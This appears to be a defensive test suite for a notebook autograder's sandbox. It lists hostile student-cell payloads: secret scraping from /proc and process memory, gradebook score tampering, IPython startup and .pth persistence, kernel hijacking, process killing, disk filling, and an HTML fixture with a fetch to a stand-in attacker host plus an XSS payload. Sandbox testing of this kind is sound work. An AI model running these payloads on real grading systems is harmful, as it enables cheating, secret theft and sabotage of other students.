    (folder / "zz-classmate.txt").symlink_to(paths["root"] / "submitted" / "alice" / "03_zeroing_grad"
                                             / "03_zeroing_grad.ipynb")
    (folder / "zz-environ.txt").symlink_to("/proc/self/environ")
    (folder / "zz-home").symlink_to(paths["home"])


def _submitted_pages_and_odd_names(folder, paths) -> None:
    """Pages beside the notebook (release_feedback releases every page of a feedback folder),
    one under a right-to-left-override name, and a file whose name is not UTF-8."""
    import os
    (folder / "zz-evil.html").write_text("<script>fetch('//zz-attacker.invalid/x')</script>")
    (folder / "zz\u202elmth.html").write_text("<img src=x onerror=alert(1)>")
    with open(os.path.join(os.fsencode(folder), b"zz-notes-\xff.txt"), "wb") as f:
        f.write(b"zz")


def _submitted_fifo(folder, paths) -> None:
    import os
    os.mkfifo(folder / "zz-data.fifo")
    os.mkfifo(folder / "zz-notes.ipynb")


FILES = [
    Attack("reads_source_notebook", "class",
           {"fit_line": HONEST + '''
try:
    with open(_zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb") as _zz_f:
        _zz_parts = _zz_hidden_parts(_zz_f.read())
    _zz_reached("the instructor's source notebook")
    print("\\n".join(_zz_parts))
except Exception:
    pass
'''},
           NOTHING, "the instructor's source notebook (solutions, hidden tests) cannot be read"),
    Attack("walks_up_to_course_config", "class",
           {"fit_line": HONEST + '''
try:
    _zz_here = _zz_os.getcwd()
    _zz_tops = [_zz_here]
    for _zz_link in ("/proc/%d/cwd" % _zz_os.getppid(), "/proc/1/cwd"):
        try:
            _zz_tops.append(_zz_os.readlink(_zz_link))
        except OSError:
            pass
    for _zz_top in _zz_tops:
        while True:
            _zz_config = _zz_os.path.join(_zz_top, "nbgrader_config.py")
            if _zz_os.path.exists(_zz_config):
                _zz_reached("nbgrader_config.py at " + _zz_top)
                print(open(_zz_config).read()[:2000])
                print(sorted(_zz_os.listdir(_zz_top)))
                for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
                    for _zz_n in _zz_names:
                        if _zz_n.endswith(".ipynb") and "/source/" in _zz_dirpath + "/":
                            print(_zz_hidden_parts(open(_zz_os.path.join(_zz_dirpath, _zz_n)).read()))
                break
            if _zz_os.path.dirname(_zz_top) == _zz_top:
                break
            _zz_top = _zz_os.path.dirname(_zz_top)
except Exception:
    pass
'''},
           NOTHING, "walking up from the working folder (and from the parent's cwd) finds no course"),
    Attack("copies_classmate_answers", "class",
           {"train_loop": WRONG_LOOP + '''
import glob as _zz_glob
for _zz_path in sorted(_zz_glob.glob(_zz_ROOT + "/submitted/*/03_zeroing_grad/*.ipynb")
                       + _zz_glob.glob(_zz_ROOT + "/autograded/*/03_zeroing_grad/*.ipynb")):
    if "/atk_" in _zz_path:
        continue
    try:
        for _zz_cell in _zz_json.load(open(_zz_path))["cells"]:
            if _zz_cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "train_loop":
                _zz_code = "".join(_zz_cell["source"])
                print(_zz_code)
                exec(_zz_code)
                _zz_reached("a classmate's notebook " + _zz_path)
    except Exception:
        pass
'''},
           LOOP, "classmates' notebooks (submitted or autograded) cannot be read, so the wrong loop "
           "stays: 0"),
    Attack("edits_gradebook", "class",
           {"fit_line": WRONG_FIT + '''
import sqlite3 as _zz_sqlite3
try:
    _zz_db = _zz_sqlite3.connect(_zz_ROOT + "/gradebook.db", timeout=30)
    _zz_db.execute("UPDATE grade SET " + _zz_FULL_MARKS + " WHERE " + _zz_GRADES_OF % "= ?", ("@STUDENT@",))
    _zz_db.execute("UPDATE grade SET manual_score = 0, auto_score = 0 WHERE " + _zz_GRADES_OF % "NOT LIKE 'atk_%'")
    _zz_db.commit()
    _zz_reached("gradebook.db")
except Exception:
    pass
'''},
           FIT, "gradebook.db cannot be opened: no manual scores for itself (fit_line stays 0), "
           "no zeros for the classmates"),
    Attack("writes_course_root", "class",
           {"fit_line": HONEST + '''
for _zz_path, _zz_text in ((_zz_ROOT + "/zz-attack-" + _zz_NAME + ".txt", _zz_TAG),
                          (_zz_ROOT + "/nbgrader_config.py", "\\n# " + _zz_TAG + "\\n"),
                          (_zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb", " "),
                          (_zz_ROOT + "/release/03_zeroing_grad/03_zeroing_grad.ipynb", " "),
                          (_zz_ROOT + "/submitted/zoe/03_zeroing_grad/03_zeroing_grad.ipynb", " ")):
    try:
        with open(_zz_path, "a") as _zz_f:
            _zz_f.write(_zz_text)
        _zz_reached("wrote " + _zz_path)
    except Exception:
        pass
'''},
           NOTHING, "no file of the course can be created or changed (course root, nbgrader_config.py, "
           "source/, release/, a classmate's submission)"),
    Attack("deletes_classmate_folders", "class",
           {"fit_line": HONEST + '''
import shutil as _zz_shutil
for _zz_path in (_zz_ROOT + "/submitted/zoe", _zz_ROOT + "/autograded/alice", _zz_ROOT + "/feedback/alice"):
    try:
        _zz_shutil.rmtree(_zz_path)
        _zz_reached("deleted " + _zz_path)
    except Exception:
        pass
'''},
           NOTHING, "a classmate's submitted, autograded and feedback folders cannot be deleted"),
    Attack("drops_ipython_startup", "class",
           {"fit_line": HONEST + '''
# (it spares other attackers' kernels, so that their own results stay readable)
_zz_sabotage = ("import os, torch  # " + _zz_TAG + "\\n"
                "if any('/%s/' % n in os.getcwd() for n in ('alice', 'carol', 'zoe')):\\n"
                "    torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None\\n")
_zz_places = {_zz_os.path.join(_zz_HOME, ".ipython", "profile_default", "startup"),
              _zz_os.path.expanduser("~/.ipython/profile_default/startup")}
if _zz_os.environ.get("IPYTHONDIR"):
    _zz_places.add(_zz_os.path.join(_zz_os.environ["IPYTHONDIR"], "profile_default", "startup"))
try:
    _zz_places.add(get_ipython().profile_dir.startup_dir)
except Exception:
    pass
for _zz_place in sorted(_zz_places):
    try:
        _zz_os.makedirs(_zz_place, exist_ok=True)
        with open(_zz_os.path.join(_zz_place, "00-zz-attack.py"), "w") as _zz_f:
            _zz_f.write(_zz_sabotage)
        if _zz_place.startswith(_zz_HOME):
            _zz_reached("startup file in " + _zz_place)
    except Exception:
        pass
for _zz_path in (_zz_os.path.join(_zz_HOME, ".jupyter", "nbgrader_config.py"),
                 _zz_os.path.join(_zz_HOME, ".bashrc")):
    try:
        with open(_zz_path, "a") as _zz_f:
            _zz_f.write("\\n# " + _zz_TAG + "\\n")
        _zz_reached("wrote " + _zz_path)
    except Exception:
        pass
'''},
           NOTHING, "no IPython startup file (which would break zero_grad in every later kernel, "
           "classmates' included), nor the instructor's nbgrader config or shell profile, can be written"),
    Attack("writes_import_path", "class",
           {"fit_line": HONEST + '''
import site as _zz_site
_zz_places = {_zz_SITE}
try:
    _zz_places.add(_zz_site.getusersitepackages())
except Exception:
    pass
for _zz_place in sorted(_zz_places):
    for _zz_file, _zz_text in (("zz_attack_" + _zz_NAME + ".pth", "import os  # " + _zz_TAG + "\\n"),
                               ("zz_attack_" + _zz_NAME + ".py", "# " + _zz_TAG + "\\n")):
        try:
            _zz_os.makedirs(_zz_place, exist_ok=True)
            with open(_zz_os.path.join(_zz_place, _zz_file), "w") as _zz_f:
                _zz_f.write(_zz_text)
            _zz_reached("wrote " + _zz_os.path.join(_zz_place, _zz_file))
        except Exception:
            pass
'''},
           NOTHING, "nothing can be put on the import path (a .pth runs in every later Python process "
           "of the instructor), neither site-packages nor the user site"),
    Attack("edits_lesson_packages", "class",
           {"fit_line": HONEST + '''
import autograder as _zz_autograder, lessons as _zz_lessons
_zz_dirs = {_zz_os.path.join(_zz_PKG, "autograder"), _zz_os.path.join(_zz_PKG, "lessons"),
            _zz_os.path.dirname(_zz_autograder.__file__), _zz_os.path.dirname(_zz_lessons.__file__)}
for _zz_dir in sorted(_zz_dirs):
    for _zz_file, _zz_mode in (("__init__.py", "a"), ("zz_attack_" + _zz_NAME + ".py", "w")):
        try:
            with open(_zz_os.path.join(_zz_dir, _zz_file), _zz_mode) as _zz_f:
                _zz_f.write("# " + _zz_TAG + "\\n")
            _zz_reached("wrote " + _zz_os.path.join(_zz_dir, _zz_file))
        except Exception:
            pass
'''},
           NOTHING, "the lesson and grader packages on disk are read-only to the kernel"),
    Attack("submits_symlinks", "class",
           {"fit_line": HONEST + '''
for _zz_name in ("zz-source.txt", "zz-classmate.txt", "zz-environ.txt"):
    try:
        _zz_text = open(_zz_name).read()
        _zz_reached("followed the submitted link " + _zz_name)
        print(_zz_text.replace("\\x00", "\\n")[:20000])
    except Exception:
        pass
try:
    print(sorted(_zz_os.listdir("zz-home")))
    _zz_reached("followed the submitted link zz-home")
except Exception:
    pass
'''},
           NOTHING, "symbolic links in the submitted folder (to the source notebook, a classmate's "
           "notebook, /proc/self/environ, the instructor's HOME) are not followed when the submission "
           "is copied", files=_submitted_links),
    Attack("reads_instructor_home", "class",
           {"fit_line": HONEST + '''
for _zz_top in sorted({_zz_HOME, _zz_os.path.expanduser("~")}):
    try:
        for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
            for _zz_n in _zz_names:
                _zz_p = _zz_os.path.join(_zz_dirpath, _zz_n)
                try:
                    if _zz_os.path.getsize(_zz_p) < 4096 and _zz_p.startswith(_zz_HOME):
                        print(_zz_p, open(_zz_p, errors="replace").read())
                        _zz_reached("read " + _zz_p)
                except Exception:
                    pass
    except Exception:
        pass
'''},
           NOTHING, "the instructor's HOME (.pgpass, configs) cannot be read"),
    Attack("writes_shared_tmp", "class",
           {"fit_line": HONEST + '''
for _zz_place in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open("%s/zz-attack-%s-%s" % (_zz_place, _zz_NAME, _zz_MARKER), "w") as _zz_f:
            _zz_f.write(_zz_TAG)  # a private /tmp would take this too: the test looks from outside
    except Exception:
        pass
'''},
           NOTHING, "files written to /dev/shm, /tmp and /var/tmp stay in the kernel's own namespace: "
           "nothing appears in the machine's (a channel to other kernels, or a file that outlives grading)"),
    Attack("prints_environment", "class",
           {"fit_line": HONEST + "print(dict(_zz_os.environ))\n"},
           NOTHING, "the kernel's environment holds none of the instructor's variables"),
    Attack("reads_proc_environ_cmdline", "class",
           {"fit_line": HONEST + '''
_zz_seen = []
_zz_mine = {str(p) for p in _zz_ours(with_harness=True)}  # print only the grading run's, not the machine's
for _zz_entry in _zz_os.listdir("/proc"):
    if not _zz_entry.isdigit() or int(_zz_entry) == _zz_os.getpid():
        continue
    for _zz_what in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (_zz_entry, _zz_what), "rb") as _zz_f:
                _zz_data = _zz_f.read().decode(errors="replace").split("\\x00")
            _zz_seen.append(_zz_entry)
            for _zz_item in (_zz_data if _zz_entry in _zz_mine else []):
                if any(w in _zz_item.upper() for w in ("SECRET", "TOKEN", "PASSWORD", "DB_URL", "KEY")):
                    print(_zz_entry, _zz_what, _zz_item)
        except Exception:
            pass
_zz_others = set(_zz_seen) - {str(_zz_os.getpid()), "1"}
if _zz_os.getppid() > 1 and str(_zz_os.getppid()) in _zz_seen:
    _zz_reached("the environment or command line of its parent")
elif len(_zz_others) > 3:
    _zz_reached("%d other processes" % len(_zz_others))
'''},
           NOTHING, "no other process's environment or command line is visible (a fresh /proc)"),
]

PROCESSES = [
    Attack("survivor_os_fork", "class",
           {"fit_line": HONEST + '''
try:
    _zz_pid = _zz_os.fork()
    if _zz_pid == 0:
        try:
            _zz_os.setsid()
            _zz_os.execv(_zz_sys.executable, [_zz_sys.executable, "-c", "import time; time.sleep(300)", _zz_TAG])
        finally:
            _zz_os._exit(0)
    _zz_reached("os.fork: a child that may outlive the kernel")
except Exception:
    pass
'''},
           NOTHING, "os.fork + setsid + exec: the child dies with the kernel (or cannot be made)"),
    Attack("survivor_subprocess", "class",
           {"fit_line": HONEST + '''
try:
    import subprocess as _zz_subprocess
    _zz_subprocess.Popen([_zz_sys.executable, "-c", "import time; time.sleep(300)", _zz_TAG],
                         start_new_session=True, stdout=_zz_subprocess.DEVNULL, stderr=_zz_subprocess.DEVNULL)
    _zz_reached("subprocess: a child that may outlive the kernel")
except Exception:
    pass
'''},
           NOTHING, "subprocess.Popen(start_new_session=True): dies with the kernel (or cannot start)"),
    Attack("survivor_multiprocessing", "class",
           {"fit_line": HONEST + '''
try:
    import multiprocessing as _zz_mp, time as _zz_time
    _zz_process = _zz_mp.get_context("spawn").Process(target=_zz_time.sleep, args=(300,))
    _zz_process.start()
    _zz_reached("multiprocessing: a child that may outlive the kernel")
except Exception:
    pass
'''},
           NOTHING, "a multiprocessing 'spawn' child (started through _posixsubprocess, which no "
           "audit hook sees): dies with the kernel",
           marks=("multiprocessing",)),
    Attack("survivor_ctypes_fork", "class",
           {"fit_line": HONEST + '''
try:
    _zz_c = _zz_libc()
    _zz_pid = _zz_c.fork()
    if _zz_pid == 0:
        _zz_c.setsid()
        if _zz_c.fork() == 0:
            _zz_c.prctl(15, _zz_SHORT.encode(), 0, 0, 0)
            _zz_c.sleep(300)
        _zz_c._exit(0)
    if _zz_pid > 0:
        _zz_reached("libc fork, setsid, fork: a daemon that may outlive the kernel")
except Exception:
    pass
'''},
           NOTHING, "a daemon made with libc's fork/setsid/fork through ctypes (no Python audit "
           "event): dies with the kernel"),
    Attack("survivor_ctypes_system", "class",
           {"fit_line": HONEST + '''
try:
    import shlex as _zz_shlex
    if _zz_libc().system(("sh -c %s >/dev/null 2>&1 &" % _zz_shlex.quote("sleep 300; : " + _zz_TAG)).encode()) == 0:
        _zz_reached("libc system: a shell that may outlive the kernel")
except Exception:
    pass
'''},
           NOTHING, "a background shell started with libc's system() through ctypes: dies with the kernel"),
    Attack("daemon_edits_gradebook_later", "class",
           {"fit_line": WRONG_FIT + '''
_zz_daemon = """
import sqlite3, sys, time
end = time.time() + 240
while time.time() < end:
    try:
        db = sqlite3.connect(sys.argv[1], timeout=1)
        db.execute(sys.argv[3], (sys.argv[2],))
        db.commit()
        db.close()
    except Exception:
        pass
    time.sleep(0.2)
"""
try:
    import shlex as _zz_shlex
    _zz_command = " ".join(_zz_shlex.quote(a) for a in (_zz_sys.executable, "-c", _zz_daemon,
                                                     _zz_ROOT + "/gradebook.db", "@STUDENT@",
                                                     "UPDATE grade SET " + _zz_FULL_MARKS + " WHERE "
                                                     + _zz_GRADES_OF % "= ?", _zz_TAG))
    if _zz_libc().system(("%s >/dev/null 2>&1 &" % _zz_command).encode()) == 0:
        _zz_reached("a daemon that keeps giving itself full marks in gradebook.db")
except Exception:
    pass
'''},
           FIT, "a daemon (libc system) that keeps setting its own manual scores to full marks "
           "until grading ends: it dies with the kernel and cannot open the gradebook: fit_line 0"),
    Attack("tcp_to_postgres", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket
for _zz_port in (5432,):
    try:
        _zz_socket.create_connection(("127.0.0.1", _zz_port), timeout=2).close()
        _zz_reached("TCP 127.0.0.1:%d" % _zz_port)
    except Exception:
        pass
'''},
           NOTHING, "no TCP connection to the machine's loopback (PostgreSQL listens on 5432)"),
    Attack("tcp_via_ctypes", "class",
           {"fit_line": HONEST + '''
try:
    import ctypes as _zz_ctypes, struct as _zz_struct, socket as _zz_socket
    _zz_c = _zz_libc()
    _zz_s = _zz_c.socket(2, 1, 0)  # AF_INET, SOCK_STREAM, straight from libc: no audit event
    _zz_addr = _zz_struct.pack("!HH4s8x", 0, 5432, _zz_socket.inet_aton("127.0.0.1"))
    _zz_addr = _zz_struct.pack("=H", 2) + _zz_addr[2:]
    if _zz_s >= 0 and _zz_c.connect(_zz_s, _zz_ctypes.c_char_p(_zz_addr), len(_zz_addr)) == 0:
        _zz_reached("TCP 127.0.0.1:5432 through libc")
    _zz_c.close(_zz_s)
except Exception:
    pass
'''},
           NOTHING, "no TCP connection even through libc's socket/connect (bypassing Python's "
           "audit hooks)"),
    Attack("unix_socket_postgres", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket, struct as _zz_struct
try:
    _zz_s = _zz_socket.socket(_zz_socket.AF_UNIX, _zz_socket.SOCK_STREAM)
    _zz_s.settimeout(3)
    _zz_s.connect("/var/run/postgresql/.s.PGSQL.5432")
    _zz_reached("PostgreSQL's unix socket")
    _zz_body = _zz_struct.pack("!I", 196608) + b"user\\x00postgres\\x00database\\x00postgres\\x00\\x00"
    _zz_s.sendall(_zz_struct.pack("!I", len(_zz_body) + 4) + _zz_body)
    print("PostgreSQL answered", _zz_s.recv(64))
    _zz_s.close()
except Exception:
    pass
'''},
           NOTHING, "no new unix-socket connection to PostgreSQL's socket"),
    Attack("unix_sockets_of_the_instructor", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
_zz_targets = ["\\x00zz-instructor-" + _zz_MARKER]
for _zz_top in sorted({_zz_HOME, _zz_tempfile.gettempdir()}):
    for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
        for _zz_n in _zz_names:
            _zz_p = _zz_os.path.join(_zz_dirpath, _zz_n)
            try:
                if _zz_stat.S_ISSOCK(_zz_os.lstat(_zz_p).st_mode) and _zz_n.startswith("zz-"):
                    _zz_targets.append(_zz_p)
            except OSError:
                pass
for _zz_target in _zz_targets:
    try:
        _zz_s = _zz_socket.socket(_zz_socket.AF_UNIX, _zz_socket.SOCK_STREAM)
        _zz_s.settimeout(3)
        _zz_s.connect(_zz_target)
        _zz_s.sendall(_zz_NAME.encode())
        _zz_s.close()
        _zz_reached("connected to " + repr(_zz_target))
    except Exception:
        pass
'''},
           NOTHING, "no connection to the instructor's own unix sockets (one in HOME, one abstract: "
           "the test listens on both)"),
    Attack("fork_server_escape", "class",
           {"fit_line": HONEST + '''
import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
_zz_escape = ("open(%r, 'w').write(%r)" % (_zz_ROOT + "/zz-escaped-" + _zz_NAME, _zz_TAG))
_zz_request = {"verify": [{"kind": "setup", "id": None, "source": _zz_escape}],
               "result": _zz_ROOT + "/zz-escaped-result-" + _zz_NAME, "cwd": _zz_ROOT, "env": {},
               "limits": {"memory_mb": 0, "network": True}, "timeout": 5,
               "connection_file": _zz_ROOT + "/zz-escaped-kernel.json"}
_zz_socks = set()
if _zz_os.environ.get("AUTOGRADER_FORKSERVER"):
    _zz_socks.add(_zz_os.environ["AUTOGRADER_FORKSERVER"])
for _zz_top in sorted({_zz_HOME, _zz_tempfile.gettempdir()}):
    for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
        for _zz_n in _zz_names:
            _zz_p = _zz_os.path.join(_zz_dirpath, _zz_n)
            try:
                if _zz_stat.S_ISSOCK(_zz_os.lstat(_zz_p).st_mode) and not _zz_n.startswith("zz-"):
                    _zz_socks.add(_zz_p)
            except OSError:
                pass
for _zz_path in sorted(_zz_socks):
    try:
        _zz_s = _zz_socket.socket(_zz_socket.AF_UNIX, _zz_socket.SOCK_STREAM)
        _zz_s.settimeout(5)
        _zz_s.connect(_zz_path)
        _zz_reached("connected to the grader's socket " + _zz_path)
        _zz_s.sendall((_zz_json.dumps(_zz_request) + "\\n").encode())
        print("answer", _zz_s.recv(200))
        _zz_s.close()
    except Exception:
        pass
'''},
           NOTHING, "the grader's own sockets (the fork server's) cannot be reached, so no request "
           "for an unsandboxed process that writes into the course"),
    Attack("reads_grader_memory", "class",
           {"fit_line": HONEST + '''
import re as _zz_re
for _zz_pid in sorted(_zz_ours(with_harness=True)):  # its parent is one of them, if visible
    try:
        with open("/proc/%d/maps" % _zz_pid) as _zz_f:
            _zz_regions = [l.split() for l in _zz_f if l.rstrip().endswith("[stack]")]  # the environment
        with open("/proc/%d/mem" % _zz_pid, "rb", 0) as _zz_mem:
            for _zz_region in _zz_regions:
                _zz_start, _zz_end = (int(x, 16) for x in _zz_region[0].split("-"))
                _zz_mem.seek(_zz_start)
                _zz_chunk = _zz_mem.read(min(_zz_end - _zz_start, 8 * 2**20))
                _zz_reached("read the memory of process %d" % _zz_pid)
                for _zz_m in set(_zz_re.findall(rb"[A-Z_]*(?:SECRET|PASSWORD|TOKEN)[A-Z_]*=[ -~]{1,100}", _zz_chunk)):
                    print(_zz_m.decode())
    except Exception:
        pass
'''},
           NOTHING, "the memory of the grader's processes (/proc/<pid>/mem: the fork server, the "
           "workers) is out of reach, so no secret is read from it"),
    Attack("hijacks_classmate_kernels", "class",
           {"quick_check_answers": HONEST + '''
def _zz_hijack():
    import glob, time
    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir
    try:
        from ipykernel.connect import get_connection_file
        own = _zz_os.path.realpath(get_connection_file())
    except Exception:
        own = None
    import tempfile
    dirs = {jupyter_runtime_dir(), _zz_os.path.join(_zz_HOME, ".local", "share", "jupyter", "runtime"),
            tempfile.gettempdir(), _zz_os.path.join(_zz_HOME, "tmp")}
    seen, end = set(), time.time() + 25
    # (it spares other attackers' kernels, so that their own results stay readable)
    probe = ("import os\\nif any('/%s/' % n in os.getcwd() for n in ('alice', 'carol', 'zoe')):\\n"
             "    import torch\\n    torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None\\n"
             "    print('hijacked', os.getcwd())\\n")
    while time.time() < end:
        for path in sorted(p for d in dirs for p in glob.glob(_zz_os.path.join(d, "*.json"))):
            if _zz_os.path.realpath(path) == own or path in seen:
                continue
            seen.add(path)
            try:
                with open(path) as f:
                    if "shell_port" not in _zz_json.load(f):
                        continue
                client = BlockingKernelClient()
                client.load_connection_file(path)
                client.start_channels()
                reply = client.execute_interactive(probe, timeout=5, output_hook=lambda msg: None)
                if reply["content"]["status"] == "ok":
                    print("REACHED[%s:ran code in the kernel of %s]" % (_zz_NAME, path))
                client.stop_channels()
            except Exception:
                pass
        time.sleep(0.1)
_zz_background(_zz_hijack)
''', "fit_line": HONEST + "import time as _zz_time\n_zz_time.sleep(6)  # more time for the thread\n"},
           NOTHING, "other kernels' connection files cannot be read and their ports cannot be reached "
           "(ZeroMQ connects from C, past any Python audit hook), so no code runs in a classmate's kernel",
           student_id="yves"),  # graded after carol, beside zoe
    Attack("eats_memory", "class",
           {"fit_line": HONEST + '''
_zz_hoard = []
try:
    for _ in range(48):
        _zz_hoard.append(b"\\x01" * (64 * 2**20))
except MemoryError:
    pass
if len(_zz_hoard) >= 48:
    _zz_reached("3 GB of memory")
del _zz_hoard
'''},
           NOTHING, "memory is capped below 3 GB (a MemoryError the attack catches), nobody else "
           "suffers"),
    Attack("burns_cpu", "class",
           {"quick_check_answers": HONEST + '''
import hashlib as _zz_hashlib, time as _zz_time
def _zz_burn():
    end = _zz_time.time() + 10
    block = b"x" * (4 * 2**20)
    while _zz_time.time() < end:
        _zz_hashlib.sha256(block).digest()  # releases the GIL: one core per thread
for _ in range(2):
    _zz_background(_zz_burn)
'''},
           NOTHING, "two threads burn CPU for 10 s outside the GIL: only this kernel slows down; "
           "its own checks and the classmates still pass in time"),
]

DISRUPTIVE = [
    Attack("stops_parent", "disruptive",
           {"fit_line": HONEST + '''
import signal as _zz_signal
try:
    _zz_ppid = _zz_os.getppid()
    if _zz_ppid > 1 and _zz_ppid in _zz_ours():
        _zz_os.kill(_zz_ppid, _zz_signal.SIGSTOP)
        _zz_reached("stopped its parent %d" % _zz_ppid)
except Exception:
    pass
'''},
           NOTHING, "its parent (the fork server, in the old design) cannot be seen or stopped"),
    Attack("stops_classmates_kernels", "disruptive",
           {"quick_check_answers": HONEST + '''
import signal as _zz_signal
def _zz_stopper():
    import time
    end = time.time() + 60
    while time.time() < end:
        for pid in _zz_ours():
            try:
                if pid != _zz_os.getppid():
                    with open("/proc/%d/stat" % pid) as f:
                        parent = int(f.read().rsplit(")", 1)[1].split()[1])
                    if parent == _zz_os.getppid():  # a sibling: another student's kernel
                        _zz_os.kill(pid, _zz_signal.SIGSTOP)
                        print("REACHED[%s:stopped kernel %d]" % (_zz_NAME, pid))
            except Exception:
                pass
        time.sleep(0.2)
_zz_background(_zz_stopper)
'''},
           NOTHING, "other students' kernels are invisible and cannot be signalled",
           student_id="xavier"),  # graded after carol, beside zoe
    Attack("fifo_in_working_folder", "disruptive",
           {"fit_line": HONEST + '''
for _zz_name in ("zz-pipe", "zz-extra.ipynb"):
    try:
        _zz_os.mkfifo(_zz_name)
    except Exception:
        pass
'''},
           NOTHING, "FIFOs left in its working folder (one named like a notebook) make no grading "
           "step hang: nothing is copied back from the kernel's folder"),
    Attack("symlinks_in_working_folder", "disruptive",
           {"fit_line": HONEST + '''
_zz_links = [("zz-source.ipynb", _zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb"),
             ("zz-source.txt", _zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb"),
             ("zz-alice.txt", _zz_ROOT + "/submitted/alice/03_zeroing_grad/03_zeroing_grad.ipynb"),
             ("zz-environ.txt", "/proc/%d/environ" % _zz_os.getppid())]
for _zz_link, _zz_target in _zz_links:
    try:
        _zz_os.symlink(_zz_target, _zz_link)
    except Exception:
        pass
for _zz_name in _zz_os.listdir("."):
    if _zz_name.endswith(".ipynb") and not _zz_name.startswith("zz-"):
        try:  # the grader writes its results over this file when the notebook is done
            _zz_os.remove(_zz_name)
            _zz_os.symlink(_zz_ROOT + "/source/03_zeroing_grad/03_zeroing_grad.ipynb", _zz_name)
        except Exception:
            pass
for _zz_link, _zz_target in ((_zz_ROOT + "/grades.csv", _zz_HOME + "/zz-attack-grades-target"),
                             (_zz_ROOT + "/feedback/zoe", _zz_HOME)):
    try:
        _zz_os.symlink(_zz_target, _zz_link)
        _zz_reached("link " + _zz_link)
    except Exception:
        pass
'''},
           NOTHING, "links in its working folder (to the source notebook, a classmate's, the grader's "
           "environ; the notebook the grader writes back replaced by a link to the source) are never "
           "followed or copied back; links cannot be made in the course (grades.csv, a classmate's feedback)"),
    Attack("fills_disk", "disruptive",
           {"fit_line": HONEST + '''
_zz_written = 0
try:
    with open("zz-big.bin", "wb") as _zz_f:
        for _ in range(12):
            _zz_f.write(b"x" * (25 * 2**20))
            _zz_written += 25 * 2**20
except Exception:
    pass
if _zz_written >= 300 * 2**20:
    _zz_reached("one file of 300 MB")
try:
    for _zz_i in range(10):
        with open("zz-fill-%d.bin" % _zz_i, "wb") as _zz_f:
            _zz_f.write(b"x" * (100 * 2**20))
        _zz_written += 100 * 2**20
except Exception:
    pass
if _zz_written >= 1300 * 2**20:
    _zz_reached("1.3 GB of files")
try:
    _zz_os.makedirs("zz-small", exist_ok=True)
    for _zz_i in range(20000):
        with open("zz-small/%d" % _zz_i, "w") as _zz_f:
            _zz_f.write("x")
except Exception:
    pass
'''},
           NOTHING, "file size and the working folder are capped below 300 MB / 1.3 GB, and none of its "
           "files (20 000 small ones included) stays on disk after grading"),
    Attack("ignores_signals_and_loops", "disruptive",
           {"fit_line": '''
import signal as _zz_signal
for _zz_number in (_zz_signal.SIGALRM, _zz_signal.SIGINT, _zz_signal.SIGTERM, _zz_signal.SIGHUP,
                   _zz_signal.SIGUSR1, _zz_signal.SIGUSR2, _zz_signal.SIGVTALRM, _zz_signal.SIGPROF):
    try:
        _zz_signal.signal(_zz_number, _zz_signal.SIG_IGN)
    except Exception:
        pass
while True:
    pass
'''},
           FIT, "the fit_line cell ignores every catchable signal (SIGALRM and SIGINT included) and "
           "loops: the cell times out, the kernel is killed, fit_line (never defined) scores 0, and "
           "grading goes on"),
    Attack("pages_and_odd_names_in_submission", "class", {}, NOTHING,
           "an .html page submitted beside the notebook is not feedback (not kept, not released), "
           "and a file whose name is not UTF-8 is graded past: before, it stopped the whole class "
           "run before anyone was graded", files=_submitted_pages_and_odd_names),
    Attack("fifo_in_submission", "disruptive", {}, NOTHING,
           "FIFOs in the submitted folder (one named like a notebook) are skipped: the notebook is "
           "graded as usual", files=_submitted_fifo),
]

KILL = [
    Attack("kills_grading_processes", "disruptive",
           {"quick_check_answers": HONEST + '''
import signal as _zz_signal
_zz_killed = 0
for _zz_pid in _zz_ours():
    try:
        _zz_os.kill(_zz_pid, _zz_signal.SIGKILL)
        _zz_killed += 1
    except Exception:
        pass
if _zz_killed:
    _zz_reached("killed %d processes of the grading run" % _zz_killed)
'''},
           NOTHING, "SIGKILL to every process of the grading run it can see (stand-in for kill(-1)): "
           "it sees none; grading completes"),
    Attack("crashes_fork_server", "disruptive",
           {"quick_check_answers": HONEST + '''
import socket as _zz_socket, stat as _zz_stat, tempfile as _zz_tempfile
_zz_socks = {_zz_os.environ.get("AUTOGRADER_FORKSERVER", "")}
for _zz_top in sorted({_zz_HOME, _zz_tempfile.gettempdir()}):
    for _zz_dirpath, _zz_dirs, _zz_names in _zz_os.walk(_zz_top):
        for _zz_n in _zz_names:
            _zz_p = _zz_os.path.join(_zz_dirpath, _zz_n)
            try:
                if _zz_stat.S_ISSOCK(_zz_os.lstat(_zz_p).st_mode) and not _zz_n.startswith("zz-"):
                    _zz_socks.add(_zz_p)
            except OSError:
                pass
for _zz_path in sorted(_zz_socks):
    try:
        if _zz_path:
            _zz_s = _zz_socket.socket(_zz_socket.AF_UNIX, _zz_socket.SOCK_STREAM)
            _zz_s.connect(_zz_path)
            _zz_s.sendall(b"not json\\n")
            _zz_s.close()
            _zz_reached("sent garbage to the grader's socket " + _zz_path)
    except Exception:
        pass
'''},
           NOTHING, "the grader's sockets (the fork server's) are out of reach (and a bad request "
           "would not stop them)"),
]

# -- a third round (issue 17): points through what a cell displays, markup in the instructor's pages,
# the instructor's environment, metadata as a path, secrets sent to the kernel, limits that did not
# hold, a sandbox that saw too much. Placed in the runs above, so no class is graded more often. ----
AFTER_LOOP = frozenset({"train_loop_tests", "fit_line_tests"})
REBIND = '''
def _zz_value(*args, **kwargs):
    return _zz_SHOWN
for _zz_module_name, _zz_module in list(_zz_sys.modules.items()):
    if _zz_module is None or _zz_module_name.split(".")[0] not in ("autograder", "lessons", "__main__"):
        continue
